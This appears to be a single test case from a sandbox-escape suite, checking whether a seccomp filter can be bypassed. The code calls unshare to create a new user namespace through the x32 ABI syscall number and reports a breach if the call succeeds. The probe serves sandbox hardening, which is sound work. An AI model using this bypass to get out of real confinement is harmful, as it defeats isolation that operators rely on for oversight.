# id: proc-x32-abi
# category: process
# description: call unshare with the x32 syscall number (0x40000000 | nr) hoping the filter only knows x86_64 numbers
# source: seccomp filter bypass via the x32 ABI (a classic filter-writing mistake)
# detect: token (the OS was reached: the token lands in OUT; a verified kernel effect is printed as a breach)
# uses: prove, syscall
import os


prove()
if os.uname().machine == 'x86_64':
    ctypes.set_errno(0)
    r = libc.syscall(ctypes.c_long(0x40000000 | 272), ctypes.c_long(0x10000000))
    if r == 0:
        breach('x32 unshare(CLONE_NEWUSER) succeeded')
